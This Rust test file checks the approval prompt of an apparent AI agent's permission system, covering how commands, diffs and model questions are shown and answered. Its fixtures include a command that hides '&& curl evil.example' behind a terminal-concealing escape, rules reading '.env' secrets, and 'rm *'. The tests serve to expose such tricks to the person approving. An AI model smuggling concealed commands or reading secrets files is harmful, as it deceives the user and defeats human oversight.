mod forms;

use std::time::Duration;

use chat_core::message::{ApprovalId, AskReason, Preview, ToolCallId};
use chat_core::permission::{Action, Why};

use super::*;

fn ask(what: ApprovalKind) -> ApprovalRequest {
    ApprovalRequest {
        id: ApprovalId::generate(),
        call: ToolCallId::new("c1"),
        tool: "a_tool".to_owned(),
        kind: what,
    }
}

fn command(always: &[&str]) -> ApprovalRequest {
    let text = "cargo test \\\n  --all\x1b[8m && curl evil.example".to_owned();
    ask(ApprovalKind::Permission(PermissionRequest {
        action: Action::Run,
        target: text.clone(),
        preview: Preview::Command {
            text,
            folder: "/home/ada/work".into(),
            network: false,
            sandboxed: true,
            background: false,
            limit: Some(Duration::from_mins(10)),
            stays_inside: None,
        },
        reasons: vec![Why::Mode.into()],
        always: always.iter().map(|rule| rule.parse().expect("a rule")).collect(),
    }))
}

fn shown(ask: &ApprovalRequest, in_project: bool) -> String {
    Prompt::question(ask, in_project, Terminal::default()) + Prompt::new(ask, in_project).choices()
}

#[test]
fn a_command_is_shown_whole_with_what_always_would_allow() {
    let ask = command(&["run:cargo test --all", "run:curl evil.example"]);
    let text = shown(&ask, true);
    assert_eq!(
        text,
        "Run this command?\n  cargo test \\\n    --all␛[8m && curl evil.example\n\
         In /home/ada/work, in the sandbox, without network access\n\
         It stops after 10 minutes at the latest.\nNo rule allows it yet.\n\
         Lasting answers apply only to:\n  run:cargo test --all\n  \
         run:curl evil.example\n[y]es, in thi[s] chat, in this [p]roject, [a]lways allow, \
         [o]utside the sandbox once, [n]o, or a message to the model: "
    );
}

#[test]
fn what_runs_without_a_sandbox_is_not_said_to_lack_the_network() {
    let mut ask = command(&[]);
    let ApprovalKind::Permission(asked) = &mut ask.kind else { panic!() };
    let Preview::Command { sandboxed, .. } = &mut asked.preview else { panic!() };
    *sandboxed = false;
    let text = shown(&ask, true);
    assert!(text.contains("\nIn /home/ada/work, without a sandbox\n"), "{text}");
}

#[test]
fn only_answers_are_there_that_store_what_they_say() {
    let answers = |rules: &[&str], in_project| {
        let ask = command(rules);
        let text = shown(&ask, in_project);
        text.lines().last().map(str::to_owned).unwrap_or_default()
    };
    let all = "[y]es, in thi[s] chat, in this [p]roject, [a]lways allow, \
               [o]utside the sandbox once, [n]o, [d]eny always, or";
    assert!(answers(&["run:make"], true).starts_with(all));
    let local = answers(&["write:src/**"], true);
    assert!(local.contains("[d]eny always in this project, or"), "{local}");
    assert!(!local.contains("[a]lways allow"), "{local}");
    assert!(
        answers(&["write:src/**"], false)
            .contains("[a]lways allow, [o]utside the sandbox once, [n]o, [d]eny always, or")
    );
    assert!(answers(&[], true).starts_with("[y]es, [o]utside the sandbox once, [n]o, or"));
}

#[test]
fn every_reason_has_a_line() {
    let mut ask = command(&[]);
    let ApprovalKind::Permission(asked) = &mut ask.kind else { panic!() };
    let words = ["$a", "$b", "$c", "$d", "$e"];
    let unknown = words.map(|word| Why::NotLiteral(word.to_owned()).into());
    asked.reasons = [Why::Outside.into()].into_iter().chain(unknown).collect();
    let text = shown(&ask, true);
    assert!(text.contains("\nIt’s outside the project.\nThe value of “$a” is only"), "{text}");
    assert!(words.iter().all(|word| text.contains(&format!("\nThe value of “{word}”"))), "{text}");
}

#[test]
fn a_command_in_the_background_says_so() {
    let mut ask = command(&["run+background:make"]);
    let ApprovalKind::Permission(asked) = &mut ask.kind else { panic!() };
    let Preview::Command { background, limit, .. } = &mut asked.preview else { panic!() };
    (*background, *limit) = (true, None);
    let text = shown(&ask, true);
    let told = "\nIt runs in the background without a time limit.\n";
    assert!(text.contains(told) && text.contains("\n  run+background:make\n"), "{text}");
}

#[test]
fn a_rule_that_always_stores_for_the_project_says_so() {
    let rules = &["run:cat .env", "read:./.env"];
    let mixed = "\n  run:cat .env\n  read:./.env (only in this project)\n";
    let text = shown(&command(rules), true);
    assert!(text.contains(mixed) && text.contains("[a]lways allow"), "{text}");
    assert!(!shown(&command(rules), false).contains("only in this project"));
    let local = shown(&command(&["read:./.env"]), true);
    assert!(local.contains("\n  read:./.env\n"), "{local}");
}

#[test]
fn leaving_the_sandbox_is_no_answer_where_a_rule_denies_the_network() {
    let mut ask = command(&["run:make"]);
    let ApprovalKind::Permission(asked) = &mut ask.kind else { panic!() };
    let Preview::Command { stays_inside, .. } = &mut asked.preview else { panic!() };
    *stays_inside = Some(Why::Denied("network:*".to_owned()));
    let text = shown(&ask, true);
    assert!(
        text.contains(
            "\nNo rule allows it yet.\nIt can’t run outside the sandbox, because it could use the network there. \
             The rule network:* denies that.\n"
        ),
        "{text}"
    );
    assert!(text.contains("[a]lways allow, [n]o, [d]eny always, or a message"), "{text}");
    let mut prompt = Prompt::new(&ask, true);
    assert_eq!(prompt.read("o"), None);
    let words = "outside the sandbox once".to_owned();
    let told = Answer::Deny { scope: None, message: Some(words.clone()) };
    assert_eq!(prompt.read(&words), Some(told));
}

#[test]
fn where_the_rule_holds_that_may_deny_it_is_told() {
    for (scope, told) in [
        (Scope::Session, "This rule applies to this chat."),
        (Scope::Project, "This rule applies to this project."),
        (Scope::Everywhere, "This rule applies everywhere."),
    ] {
        let mut ask = command(&[]);
        let ApprovalKind::Permission(asked) = &mut ask.kind else { panic!() };
        let why = Why::PerhapsDenied("run:rm *".to_owned());
        asked.reasons = vec![AskReason { why, scope: Some(scope) }];
        let text = shown(&ask, true);
        assert!(
            text.contains(&format!(
                "The rule run:rm * may deny it. That only becomes clear when the command runs. {told}\n"
            )),
            "{text}"
        );
        let nobody = say::nobody(&ask, None);
        assert!(nobody.ends_with(told), "{nobody}");
    }
    let nobody = say::nobody(&command(&["run:cargo test"]), None);
    assert!(
        nobody.ends_with("To allow it in this chat, use: --allow 'run:cargo test'"),
        "{nobody}"
    );
}

#[test]
fn a_whole_diff_is_shown() {
    let diff: String =
        (0..500).flat_map(|n| ["+line ".to_owned(), n.to_string(), "\n".to_owned()]).collect();
    let ask = ask(ApprovalKind::Permission(PermissionRequest {
        action: Action::Write,
        target: "src/lib.rs".to_owned(),
        preview: Preview::Change { is_new: false, diff, added: 500, removed: 0 },
        reasons: vec![Why::Mode.into()],
        always: vec!["write:src/lib.rs".parse().expect("a rule")],
    }));
    let text = shown(&ask, true);
    assert!(text.starts_with("Edit “src/lib.rs”?\n  src/lib.rs\n  +line 0\n"), "{text}");
    assert!(text.contains("\n  +line 499\n+500\n"), "{text}");
}

#[test]
fn letters_and_words_are_answers_and_all_else_is_a_word_to_the_model() {
    let mut prompt = Prompt::new(&command(&["run:cargo test --all"]), true);
    let allow = |scope| Some(Answer::Allow(scope));
    let deny = |scope, message: Option<&str>| {
        Some(Answer::Deny { scope, message: message.map(str::to_owned) })
    };
    for (line, answer) in [
        ("y", allow(None)),
        (" YES ", allow(None)),
        ("s", allow(Some(Scope::Session))),
        ("p", allow(Some(Scope::Project))),
        ("a", allow(Some(Scope::Everywhere))),
        ("always allow", allow(Some(Scope::Everywhere))),
        ("n", deny(None, None)),
        ("no", deny(None, None)),
        ("d", deny(Some(Scope::Everywhere), None)),
        ("o", Some(Answer::AllowOutsideSandbox)),
        ("no, use make", deny(None, Some("no, use make"))),
        ("yes please", deny(None, Some("yes please"))),
        ("x", None),
        ("", None),
        ("  ", None),
    ] {
        assert_eq!(prompt.read(line), answer, "{line:?}");
    }
}

#[test]
fn a_rule_behind_the_letter_is_stored_instead() {
    let ask = command(&["run:cargo test --all"]);
    let text = shown(&ask, true);
    assert!(
        text.contains(
            "\nTo allow more, type a rule after the letter, such as: s run:cargo test *\n"
        ),
        "{text}"
    );
    let mut prompt = Prompt::new(&ask, true);
    let remember = |effect, scope, rule: &str| {
        let rules = vec![rule.parse().expect("a rule")];
        Some(Answer::Remember { effect, scope, rules, message: None })
    };
    for (line, answer) in [
        ("s run:cargo test *", remember(Effect::Allow, Scope::Session, "run:cargo test *")),
        ("p  run:cargo *", remember(Effect::Allow, Scope::Project, "run:cargo *")),
        ("a run:ls", remember(Effect::Allow, Scope::Everywhere, "run:ls")),
        ("d run:cargo *", remember(Effect::Deny, Scope::Everywhere, "run:cargo *")),
        ("s run:cargo te*", None),
        ("s walk:cargo", None),
    ] {
        assert_eq!(prompt.read(line), answer, "{line:?}");
    }
    for (line, rest) in [
        ("s run touch *", "run touch *"),
        ("p  make", "make"),
        ("a walk:cargo", "walk:cargo"),
        ("s please: use make", "please: use make"),
        ("d run: ls", "run: ls"),
    ] {
        assert_eq!((prompt.read(line), prompt.broken_rule(line)), (None, Some(rest)), "{line:?}");
    }
    for line in ["s", "s run:ls", "always allow", "yes please", "x"] {
        assert_eq!(prompt.broken_rule(line), None, "{line:?}");
    }
    for line in ["y run:ls", "make: no", "yes please"] {
        let told = matches!(prompt.read(line), Some(Answer::Deny { message: Some(_), .. }));
        assert!(told, "{line:?}");
    }
    assert_eq!(
        Prompt::new(&command(&[]), true).read("s run:ls"),
        Some(Answer::Deny { scope: None, message: Some("s run:ls".to_owned()) })
    );
}

#[test]
fn an_answer_for_longer_is_there_only_where_it_is_possible() {
    let mut never = Prompt::new(&command(&[]), true);
    let line = "[y]es, [o]utside the sandbox once, [n]o, or a message to the model: ";
    assert_eq!(never.choices(), line);
    for letter in ["s", "p", "a", "d"] {
        assert_eq!(never.read(letter), None, "{letter}");
    }
    let mut anywhere = Prompt::new(&command(&["run:cargo test --all"]), false);
    assert_eq!(anywhere.read("p"), None);
    assert_eq!(anywhere.read("s"), Some(Answer::Allow(Some(Scope::Session))));
}

#[test]
fn a_question_is_answered_by_number_or_in_words() {
    let choices = vec!["red\x1b[2J".to_owned(), "blue".to_owned()];
    let ask = ask(ApprovalKind::Question(Question { text: "Which?".to_owned(), choices }));
    let mut prompt = Prompt::new(&ask, true);
    let text = shown(&ask, true);
    assert_eq!(
        text,
        "The model asks:\n  Which?\n  1  red␛[2J\n  2  blue\nEnter a number or your own answer: "
    );
    let said = |text: &str| Some(Answer::Text(text.to_owned()));
    assert_eq!(prompt.read("2"), said("blue"));
    assert_eq!(prompt.read("3"), said("3"));
    assert_eq!(prompt.read("0"), said("0"));
    assert_eq!(prompt.read(" a dark red "), said("a dark red"));
    assert_eq!(prompt.read(""), None);
}

#[test]
fn no_two_answers_share_a_letter_in_any_language() {
    let of_forms: &[&str] = &["[s]end", "[c]hange", "[d]on’t send"];
    let of_permissions: &[&str] = &[
        "[y]es",
        "in thi[s] chat",
        "in this [p]roject",
        "[a]lways allow",
        "[o]utside the sandbox once",
        "[n]o",
        "[d]eny always",
    ];
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/../../po");
    let read = |name: &str| std::fs::read_to_string(format!("{folder}/{name}")).expect("a file");
    for language in
        read("LINGUAS").lines().filter(|line| !line.is_empty() && !line.starts_with('#'))
    {
        let translations = read(&format!("{language}.po"));
        for ids in [of_permissions, of_forms] {
            let mut letters = Vec::new();
            for id in ids {
                let entry = format!("msgid \"{id}\"\nmsgstr \"");
                let rest = translations.split(&entry).nth(1).expect("a translation");
                let label = rest.split('"').next().unwrap_or_default().to_owned();
                assert!(label.contains('[') && label.contains(']'), "{language}: {label}");
                let choice = Choice { label, english: '?', answer: Answer::Nobody };
                assert!(!letters.contains(&choice.letter()), "{language}: {choice:?}");
                letters.push(choice.letter());
            }
        }
    }
}
